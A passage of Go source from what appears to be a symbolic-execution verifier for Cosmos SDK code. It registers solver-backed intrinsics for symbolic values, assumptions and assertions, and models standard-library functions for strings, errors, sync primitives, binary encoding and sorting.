		return it.anyRange(tagOf(a[0]), asBig(a[1]), asBig(a[2]), "uint64")
	})
	P.reg("zzverif.AnyUint32", func(it *Interp, a []Value) Value {
		return it.anyRange(tagOf(a[0]), big.NewInt(0), new(big.Int).Sub(pow2(32), big.NewInt(1)), "uint32")
	})
	P.reg("zzverif.AnyBool", func(it *Interp, a []Value) Value {
		if it.R.Pinned != nil {
			v, _ := it.pinned(it.nextTag(tagOf(a[0])))
			return v == "true" || v == "1"
		}
		return it.declareAny(tagOf(a[0]), SBool, "bool")
	})
	// AnySdkInt: unconstrained math.Int within the 256-bit domain
	P.reg("zzverif.AnySdkInt", func(it *Interp, a []Value) Value {
		m := new(big.Int).Sub(pow2(256), big.NewInt(1))
		return nIntV(it.anyRange(tagOf(a[0]), new(big.Int).Neg(m), m, "sdkint"))
	})
	// AnyAmount: math.Int in [0, 2^bits)
	P.reg("zzverif.AnyAmount", func(it *Interp, a []Value) Value {
		bits := int(asBig(a[1]).Int64())
		return nIntV(it.anyRange(tagOf(a[0]), big.NewInt(0), new(big.Int).Sub(pow2(bits), big.NewInt(1)), "sdkint"))
	})
	P.reg("zzverif.AnyBigAmount", func(it *Interp, a []Value) Value {
		bits := int(asBig(a[1]).Int64())
		s := it.anyRange(tagOf(a[0]), big.NewInt(0), new(big.Int).Sub(pow2(bits), big.NewInt(1)), "big")
		return &Ptr{C: it.newCell(&BigV{V: s}, "anybig")}
	})
	P.reg("zzverif.AnyBig", func(it *Interp, a []Value) Value {
		if it.R.Pinned != nil {
			v, _ := it.pinned(it.nextTag(tagOf(a[0])))
			return &Ptr{C: it.newCell(&BigV{V: bigFromDec(v)}, "anybig")}
		}
		s := it.declareAny(tagOf(a[0]), SInt, "big")
		return &Ptr{C: it.newCell(&BigV{V: s}, "anybig")}
	})
	// AnyDecRaw: LegacyDec whose raw (10^18 scaled) value lies in [lo, hi] given as decimal strings
	P.reg("zzverif.AnyDecRaw", func(it *Interp, a []Value) Value {
		lo, _ := new(big.Int).SetString(a[1].(string), 10)
		hi, _ := new(big.Int).SetString(a[2].(string), 10)
		return DecV{V: it.anyRange(tagOf(a[0]), lo, hi, "dec")}
	})
	P.reg("zzverif.AnyCoins", func(it *Interp, a []Value) Value {
		tag := tagOf(a[0])
		bits := int(asBig(a[1]).Int64())
		den := strSlice(it, a[2])
		cv := &CoinsV{Amt: map[string]Value{}}
		for _, d := range den {
			cv.Amt[d] = it.anyRange(tag+"."+d, big.NewInt(0), new(big.Int).Sub(pow2(bits), big.NewInt(1)), "sdkint")
		}
		return cv
	})
	P.reg("zzverif.Assume", func(it *Interp, a []Value) Value {
		c := a[0]
		if b, ok := c.(bool); ok {
			if !b {
				panic(&pathEnd{why: "assume-false"})
			}
			return nil
		}
		c = it.nameVal(c)
		it.assertPC(c)
		it.flush()
		r := it.solver.CheckSat()
		it.R.countQuery(r)
		if r == "unsat" {
			panic(&pathEnd{why: "assume-false"})
		}
		return nil
	})
	P.reg("zzverif.Assert", func(it *Interp, a []Value) Value {
		it.checkPoison(a[0])
		it.checkObligation(it.nameVal(a[0]), a[1].(string), "assert")
		return nil
	})
	P.reg("zzverif.Reach", func(it *Interp, a []Value) Value {
		it.reach(tagOf(a[0]))
		return nil
	})
	P.reg("zzverif.Choose", func(it *Interp, a []Value) Value {
		n := int(asBig(a[1]).Int64())
		tag := it.nextTag(tagOf(a[0]))
		if it.R.Pinned != nil {
			v, _ := it.pinned(tag)
			c := int(bigFromDec(v).Int64())
			if c < 0 || c >= n {
				c = 0
			}
			it.choices[tag] = fmt.Sprint(c)
			return big.NewInt(int64(c))
		}
		c := it.chooseN(n, tag)
		it.choices[tag] = fmt.Sprint(c)
		return big.NewInt(int64(c))
	})
	P.reg("zzverif.AllowPanic", func(it *Interp, a []Value) Value {
		it.allowPanic = true
		return nil
	})
	// Try runs f and reports whether it panicked (Go-level panic in the code under test).
	P.reg("zzverif.Try", func(it *Interp, a []Value) (res Value) {
		saveCur, saveDepth := it.cur, it.depth
		defer func() {
			if x := recover(); x != nil {
				if gp, ok := x.(*GoPanic); ok {
					it.cur, it.depth = saveCur, saveDepth
					it.store["lastPanic"] = gp.Msg
					res = true
					return
				}
				panic(x)
			}
		}()
		it.CallValue(a[0])
		return false
	})
	P.reg("zzverif.LastPanic", func(it *Interp, a []Value) Value {
		if s, ok := it.store["lastPanic"].(string); ok {
			return s
		}
		return ""
	})
	P.reg("zzverif.Param", func(it *Interp, a []Value) Value {
		if v, ok := it.params[a[0].(string)]; ok {
			return v
		}
		return a[1]
	})
	P.reg("zzverif.ParamInt", func(it *Interp, a []Value) Value {
		if v, ok := it.params[a[0].(string)]; ok {
			n, err := strconv.Atoi(v)
			if err != nil {
				panic(unsupported("bad int param " + v))
			}
			return big.NewInt(int64(n))
		}
		return a[1]
	})
	P.reg("zzverif.And", func(it *Interp, a []Value) Value { return mkAnd(boolSlice(it, a[0])...) })
	P.reg("zzverif.Or", func(it *Interp, a []Value) Value { return mkOr(boolSlice(it, a[0])...) })
	P.reg("zzverif.Implies", func(it *Interp, a []Value) Value { return mkImplies(a[0], a[1]) })
	P.reg("zzverif.Iff", func(it *Interp, a []Value) Value { return mkBoolEq(a[0], a[1]) })
	P.reg("zzverif.IteI64", func(it *Interp, a []Value) Value { return mkIte(a[0], a[1], a[2]) })
	P.reg("zzverif.IteInt", func(it *Interp, a []Value) Value {
		return nIntV(mkIte(a[0], it.intVal(a[1].(IntV)), it.intVal(a[2].(IntV))))
	})
	P.reg("zzverif.IteCoins", func(it *Interp, a []Value) Value {
		x, y := it.toCoins(a[1]), it.toCoins(a[2])
		r := &CoinsV{Amt: map[string]Value{}}
		for _, d := range unionDenoms(x, y) {
			r.Amt[d] = mkIte(a[0], amtOf(x, d), amtOf(y, d))
		}
		return r
	})
	P.reg("zzverif.CoinsEq", func(it *Interp, a []Value) Value {
		x, y := it.toCoins(a[0]), it.toCoins(a[1])
		var cs []Value
		for _, d := range unionDenoms(x, y) {
			cs = append(cs, mkCmp("=", amtOf(x, d), amtOf(y, d)))
		}
		return mkAnd(cs...)
	})
	P.reg("zzverif.CoinsLTE", func(it *Interp, a []Value) Value {
		x, y := it.toCoins(a[0]), it.toCoins(a[1])
		var cs []Value
		for _, d := range unionDenoms(x, y) {
			cs = append(cs, mkCmp("<=", amtOf(x, d), amtOf(y, d)))
		}
		return mkAnd(cs...)
	})
	P.reg("zzverif.CoinsNonNeg", func(it *Interp, a []Value) Value {
		x := it.toCoins(a[0])
		var cs []Value
		for _, d := range sortedKeys(x.Amt) {
			cs = append(cs, mkCmp(">=", x.Amt[d], big.NewInt(0)))
		}
		return mkAnd(cs...)
	})
	P.reg("zzverif.BigEq", func(it *Interp, a []Value) Value {
		return mkCmp("=", it.bigVal(a[0]), it.bigVal(a[1]))
	})
	P.reg("zzverif.MapOrder", func(it *Interp, a []Value) Value {
		it.mapOrder = a[0].(bool)
		return nil
	})
	P.reg("zzverif.Native", func(it *Interp, a []Value) Value { return false })
	P.reg("zzverif.IsLocalTime", func(it *Interp, a []Value) Value {
		if t, ok := a[0].(TimeV); ok {
			return t.Local
		}
		panic(unsupported("IsLocalTime of a non-time value"))
	})
	P.reg("zzverif.Note", func(it *Interp, a []Value) Value {
		it.pathNotes = append(it.pathNotes, fmt.Sprint(a[0]))
		return nil
	})
	obs := func(it *Interp, a []Value) Value {
		if it.R.TraceBudget > 0 || true {
			it.observe(tagOf(a[0]), a[1])
		}
		return nil
	}
	for _, n := range []string{"ObserveInt64", "ObserveUint64", "ObserveBool", "ObserveInt", "ObserveDec", "ObserveCoins", "ObserveBig"} {
		P.reg("zzverif."+n, obs)
	}
	P.reg("zzverif.Covered", func(it *Interp, a []Value) Value {
		// record that the named real function is part of the encoded surface of this harness
		it.R.addFunc(a[0].(string), "")
		return nil
	})
}

// misc library natives ---------------------------------------------------------------

func (it *Interp) concBytes(v Value) []byte {
	switch x := v.(type) {
	case *SliceV:
		return it.bytesOf(x)
	case string:
		return []byte(x)
	}
	panic(unsupported(fmt.Sprintf("expected concrete bytes, got %T at %s", v, it.where())))
}

func registerMisc(P *Program) {
	nop := func(it *Interp, a []Value) Value { return nil }
	for _, n := range []string{
		"(*sync.Mutex).Lock", "(*sync.Mutex).Unlock", "(*sync.RWMutex).Lock", "(*sync.RWMutex).Unlock",
		"(*sync.RWMutex).RLock", "(*sync.RWMutex).RUnlock", "(*sync.WaitGroup).Add", "(*sync.WaitGroup).Done", "(*sync.WaitGroup).Wait",
		"runtime.KeepAlive", "runtime.SetFinalizer", "runtime.GC",
	} {
		P.reg(n, nop)
	}
	P.reg("(*sync.Once).Do", func(it *Interp, a []Value) Value {
		p := a[0].(*Ptr)
		key := "once:" + keyString(p)
		if _, done := it.store[key]; !done {
			it.store[key] = true
			it.CallValue(a[1])
		}
		return nil
	})
	// sync.Map as a plain map keyed by the receiver's identity (single-threaded execution; keys must be concrete)
	syncMap := func(it *Interp, recv Value) *MapV {
		key := "syncmap:" + keyString(recv.(*Ptr))
		if m, ok := it.store[key]; ok {
			return m.(*MapV)
		}
		it.cellSeq++
		m := &MapV{M: map[string]*mapEntry{}, id: it.cellSeq}
		it.store[key] = m
		return m
	}
	syncKey := func(it *Interp, k Value) string {
		if iv, ok := k.(*IfaceV); ok && iv != nil {
			if _, sym := iv.V.(*Sym); sym {
				panic(unsupported("sync.Map with a symbolic key at " + it.where()))
			}
		}
		return keyString(k)
	}
	P.reg("(*sync.Map).Load", func(it *Interp, a []Value) Value {
		if e, ok := syncMap(it, a[0]).M[syncKey(it, a[1])]; ok {
			return Tuple{e.V, true}
		}
		return Tuple{(*IfaceV)(nil), false}
	})
	P.reg("(*sync.Map).Store", func(it *Interp, a []Value) Value {
		m, ks := syncMap(it, a[0]), syncKey(it, a[1])
		if e, ok := m.M[ks]; ok {
			e.V = a[2]
		} else {
			m.M[ks] = &mapEntry{K: a[1], V: a[2]}
			m.Keys = append(m.Keys, ks)
		}
		return nil
	})
	P.reg("(*sync.Map).LoadOrStore", func(it *Interp, a []Value) Value {
		m, ks := syncMap(it, a[0]), syncKey(it, a[1])
		if e, ok := m.M[ks]; ok {
			return Tuple{e.V, true}
		}
		m.M[ks] = &mapEntry{K: a[1], V: a[2]}
		m.Keys = append(m.Keys, ks)
		return Tuple{a[2], false}
	})
	P.reg("(*sync.Map).Delete", func(it *Interp, a []Value) Value {
		m, ks := syncMap(it, a[0]), syncKey(it, a[1])
		if _, ok := m.M[ks]; ok {
			delete(m.M, ks)
			for i, k := range m.Keys {
				if k == ks {
					m.Keys = append(append([]string{}, m.Keys[:i]...), m.Keys[i+1:]...)
					break
				}
			}
		}
		return nil
	})
	P.reg("bytes.Equal", func(it *Interp, a []Value) Value {
		if isBlob(a[0]) || isBlob(a[1]) {
			panic(unsupported("bytes.Equal on typed blob"))
		}
		return bytes.Equal(it.concBytes(a[0]), it.concBytes(a[1]))
	})
	P.reg("bytes.Compare", func(it *Interp, a []Value) Value {
		return big.NewInt(int64(bytes.Compare(it.concBytes(a[0]), it.concBytes(a[1]))))
	})
	P.reg("bytes.HasPrefix", func(it *Interp, a []Value) Value {
		return bytes.HasPrefix(it.concBytes(a[0]), it.concBytes(a[1]))
	})
	P.reg("bytes.IndexByte", func(it *Interp, a []Value) Value {
		return big.NewInt(int64(bytes.IndexByte(it.concBytes(a[0]), byte(asBig(a[1]).Uint64()))))
	})
	P.reg("sort.Strings", func(it *Interp, a []Value) Value {
		s := it.asSlice(a[0])
		if s.Len > 1 {
			el := s.Arr.V.(*ArrayV).Elems[s.Off : s.Off+s.Len]
			strs := make([]string, len(el))
			for i, e := range el {
				strs[i] = e.(string)
			}
			sort.Strings(strs)
			for i := range el {
				el[i] = strs[i]
			}
		}
		return nil
	})
	P.reg("strings.Compare", func(it *Interp, a []Value) Value {
		return big.NewInt(int64(strings.Compare(a[0].(string), a[1].(string))))
	})
	str1 := func(f func(string) string) Intrinsic {
		return func(it *Interp, a []Value) Value { return f(a[0].(string)) }
	}
	P.reg("strings.ToLower", str1(strings.ToLower))
	P.reg("strings.ToUpper", str1(strings.ToUpper))
	P.reg("strings.TrimSpace", str1(strings.TrimSpace))
	P.reg("strings.Contains", func(it *Interp, a []Value) Value { return strings.Contains(a[0].(string), a[1].(string)) })
	P.reg("strings.HasPrefix", func(it *Interp, a []Value) Value { return strings.HasPrefix(a[0].(string), a[1].(string)) })
	P.reg("strings.HasSuffix", func(it *Interp, a []Value) Value { return strings.HasSuffix(a[0].(string), a[1].(string)) })
	P.reg("strings.Index", func(it *Interp, a []Value) Value {
		return big.NewInt(int64(strings.Index(a[0].(string), a[1].(string))))
	})
	P.reg("strings.EqualFold", func(it *Interp, a []Value) Value { return strings.EqualFold(a[0].(string), a[1].(string)) })
	P.reg("strings.TrimPrefix", func(it *Interp, a []Value) Value { return strings.TrimPrefix(a[0].(string), a[1].(string)) })
	P.reg("strings.TrimSuffix", func(it *Interp, a []Value) Value { return strings.TrimSuffix(a[0].(string), a[1].(string)) })
	P.reg("strings.Split", func(it *Interp, a []Value) Value {
		parts := strings.Split(a[0].(string), a[1].(string))
		arr := &ArrayV{Elems: make([]Value, len(parts))}
		for i, p := range parts {
			arr.Elems[i] = p
		}
		return &SliceV{Arr: it.newCell(arr, "split"), Len: len(parts), Cap: len(parts)}
	})
	P.reg("strings.Join", func(it *Interp, a []Value) Value {
		return strings.Join(strSlice(it, a[0]), a[1].(string))
	})
	P.reg("strconv.Itoa", func(it *Interp, a []Value) Value {
		if b, ok := a[0].(*big.Int); ok {
			return b.String()
		}
		return symStrMark + "itoa"
	})
	P.reg("strconv.FormatInt", func(it *Interp, a []Value) Value {
		if b, ok := a[0].(*big.Int); ok {
			return b.Text(int(asBig(a[1]).Int64()))
		}
		return symStrMark + "fmtint"
	})
	P.reg("strconv.FormatUint", func(it *Interp, a []Value) Value {
		if b, ok := a[0].(*big.Int); ok {
			return b.Text(int(asBig(a[1]).Int64()))
		}
		return symStrMark + "fmtuint"
	})
	// fmt: formatting is not the subject of any property; results are marked so that a comparison on them is an error
	sprintf := func(it *Interp, a []Value) Value {
		f, _ := a[0].(string)
		// all-concrete string / integer arguments: format natively (package-level regular expressions and keys are built this way)
		if len(a) > 1 && !strings.Contains(f, symStrMark) {
			var goArgs []interface{}
			ok := true
			for _, e := range boolSlice(it, a[1]) {
				if iv, isI := e.(*IfaceV); isI && iv != nil {
					e = iv.V
				}
				switch x := e.(type) {
				case string:
					if strings.Contains(x, symStrMark) {
						ok = false
					}
					goArgs = append(goArgs, x)
				case *big.Int:
					goArgs = append(goArgs, x)
				default:
					ok = false
				}
			}
			if ok {
				return fmt.Sprintf(f, goArgs...)
			}
		}
		return symStrMark + f
	}
	P.reg("fmt.Sprintf", sprintf)
	P.reg("fmt.Sprint", func(it *Interp, a []Value) Value { return symStrMark + "sprint" })
	P.reg("fmt.Sprintln", func(it *Interp, a []Value) Value { return symStrMark + "sprintln" })
	P.reg("fmt.Println", nop)
	P.reg("fmt.Printf", nop)
	P.reg("fmt.Errorf", func(it *Interp, a []Value) Value {
		f, _ := a[0].(string)
		root := "fmt.Errorf:" + f
		if strings.Contains(f, "%w") {
			for _, e := range boolSlice(it, a[1]) {
				if iv, ok := e.(*IfaceV); ok && iv != nil {
					e = iv.V
				}
				if ev, ok := e.(*ErrV); ok && ev != nil {
					root = ev.Root
				}
			}
		}
		return &ErrV{Root: root, Msg: f}
	})
	P.reg("errors.New", func(it *Interp, a []Value) Value {
		return &ErrV{Root: "errors.New:" + a[0].(string), Msg: a[0].(string)}
	})
	P.reg("errors.Is", func(it *Interp, a []Value) Value {
		x, _ := a[0].(*ErrV)
		y, _ := a[1].(*ErrV)
		if x == nil || y == nil {
			return x == nil && y == nil && a[0] == nil && a[1] == nil
		}
		return x.Root == y.Root
	})
	P.reg("errors.Unwrap", func(it *Interp, a []Value) Value { return (*ErrV)(nil) })
	// cosmossdk.io/errors
	P.reg("cosmossdk.io/errors.Register", func(it *Interp, a []Value) Value {
		return &ErrV{Root: fmt.Sprintf("%s/%s", a[0], asBig(a[1]).String()), Msg: a[2].(string)}
	})
	P.reg("cosmossdk.io/errors.RegisterWithGRPCCode", func(it *Interp, a []Value) Value {
		return &ErrV{Root: fmt.Sprintf("%s/%s", a[0], asBig(a[1]).String()), Msg: a[3].(string)}
	})
	wrap := func(it *Interp, a []Value) Value {
		e, _ := a[0].(*ErrV)
		if e == nil {
			if a[0] == nil || a[0] == (*IfaceV)(nil) {
				return (*ErrV)(nil)
			}
			if iv, ok := a[0].(*IfaceV); ok {
				return &ErrV{Root: "iface:" + iv.T.String(), Msg: "wrapped"}
			}
			return (*ErrV)(nil)
		}
		d, _ := a[1].(string)
		return &ErrV{Root: e.Root, Msg: d + ": " + e.Msg}
	}
	P.reg("cosmossdk.io/errors.Wrap", wrap)
	P.reg("cosmossdk.io/errors.Wrapf", wrap)
	P.reg("(*cosmossdk.io/errors.Error).Wrap", wrap)
	P.reg("(*cosmossdk.io/errors.Error).Wrapf", wrap)
	P.reg("cosmossdk.io/errors.IsOf", func(it *Interp, a []Value) Value {
		x, _ := a[0].(*ErrV)
		if x == nil {
			return false
		}
		for _, e := range boolSlice(it, a[1]) {
			if y, ok := e.(*ErrV); ok && y != nil && y.Root == x.Root {
				return true
			}
		}
		return false
	})
	P.reg("github.com/pkg/errors.Wrap", wrap)
	P.reg("github.com/pkg/errors.Wrapf", wrap)
	P.reg("github.com/pkg/errors.New", func(it *Interp, a []Value) Value {
		return &ErrV{Root: "errors.New:" + a[0].(string), Msg: a[0].(string)}
	})
}

func isBlob(v Value) bool { _, ok := v.(*BlobV); return ok }

func (it *Interp) blobLen(b *BlobV) Value {
	if b.Kind == "u64be" {
		return big.NewInt(8)
	}
	// a typed blob is non-empty; its exact length is not modelled
	key := fmt.Sprintf("bloblen:%p", b)
	if v, ok := it.store[key]; ok {
		return v
	}
	name := it.freshName("bloblen")
	it.emit("(declare-const " + name + " Int)")
	it.emit("(assert (and (>= " + name + " 1) (<= " + name + " 1024)))")
	v := &Sym{S: SInt, T: name, Lo: big.NewInt(1), Hi: big.NewInt(1024)}
	it.store[key] = v
	return v
}

// encoding/binary big/little endian on possibly symbolic integers: bytes are (v div 2^k) mod 256 -------------------

func (it *Interp) putUint(dst Value, v Value, n int, big_ bool) {
	s := it.asSlice(dst)
	if s.Len < n {
		panic(&GoPanic{Msg: "runtime error: index out of range"})
	}
	arr := s.Arr.V.(*ArrayV)
	for i := 0; i < n; i++ {
		shift := 8 * i
		if big_ {
			shift = 8 * (n - 1 - i)
		}
		var b Value
		if c, ok := v.(*big.Int); ok {
			b = new(big.Int).And(new(big.Int).Rsh(c, uint(shift)), big.NewInt(255))
		} else {
			sy := mkModE(mkDivE(v, pow2(shift)), big.NewInt(256)).(*Sym)
			sy.Lo, sy.Hi = big.NewInt(0), big.NewInt(255)
			sy.PartOf, sy.PartShift = v.(*Sym).T, shift
			b = sy
		}
		arr.Elems[s.Off+i] = b
	}
}

func (it *Interp) getUint(src Value, n int, big_ bool) Value {
	if b, ok := src.(*BlobV); ok && b.Kind == "u64be" && n == 8 && big_ {
		return b.V
	}
	s := it.asSlice(src)
	if s.Len < n {
		panic(&GoPanic{Msg: "runtime error: index out of range"})
	}
	arr := s.Arr.V.(*ArrayV)
	// peephole: the bytes are exactly the parts of one symbolic integer, in order
	if first, ok := arr.Elems[s.Off].(*Sym); ok && first.PartOf != "" {
		same := true
		for i := 0; i < n; i++ {
			shift := 8 * i
			if big_ {
				shift = 8 * (n - 1 - i)
			}
			e, ok := arr.Elems[s.Off+i].(*Sym)
			if !ok || e.PartOf != first.PartOf || e.PartShift != shift {
				same = false
				break
			}
		}
		if same {
			return &Sym{S: SInt, T: first.PartOf, Lo: big.NewInt(0), Hi: new(big.Int).Sub(pow2(8*n), big.NewInt(1))}
		}
	}
	var sum Value = big.NewInt(0)
	for i := 0; i < n; i++ {
		shift := 8 * i
		if big_ {
			shift = 8 * (n - 1 - i)
		}
		sum = mkAdd(sum, mkMul(arr.Elems[s.Off+i], pow2(shift)))
	}
	return sum
}

func registerBinary(P *Program) {
	for _, e := range []struct {
		name string
		big_ bool
	}{{"(encoding/binary.bigEndian)", true}, {"(encoding/binary.littleEndian)", false}} {
		e := e
		for _, w := range []struct {
			suffix string
			n      int
		}{{"Uint64", 8}, {"Uint32", 4}, {"Uint16", 2}} {
			w := w
			P.reg(e.name+".Put"+w.suffix, func(it *Interp, a []Value) Value { it.putUint(a[1], a[2], w.n, e.big_); return nil })
			P.reg(e.name+"."+w.suffix, func(it *Interp, a []Value) Value { return it.getUint(a[1], w.n, e.big_) })
		}
	}
	// sort.Slice / sort.SliceStable: insertion sort driven by the (interpreted) less closure; comparisons must be concrete
	sortSlice := func(it *Interp, a []Value) Value {
		iv, _ := a[0].(*IfaceV)
		if iv == nil {
			return nil
		}
		s := it.asSlice(iv.V)
		if s.Len < 2 {
			return nil
		}
		el := s.Arr.V.(*ArrayV).Elems
		for i := 1; i < s.Len; i++ {
			for j := i; j > 0; j-- {
				r := it.CallValue(a[1], big.NewInt(int64(j)), big.NewInt(int64(j-1)))
				lt, ok := r.(bool)
				if !ok {
					panic(unsupported("sort.Slice with a symbolic comparison"))
				}
				if !lt {
					break
				}
				el[s.Off+j], el[s.Off+j-1] = el[s.Off+j-1], el[s.Off+j]
			}
		}
		return nil
	}
	P.reg("sort.Slice", sortSlice)
	P.reg("sort.SliceStable", sortSlice)
}
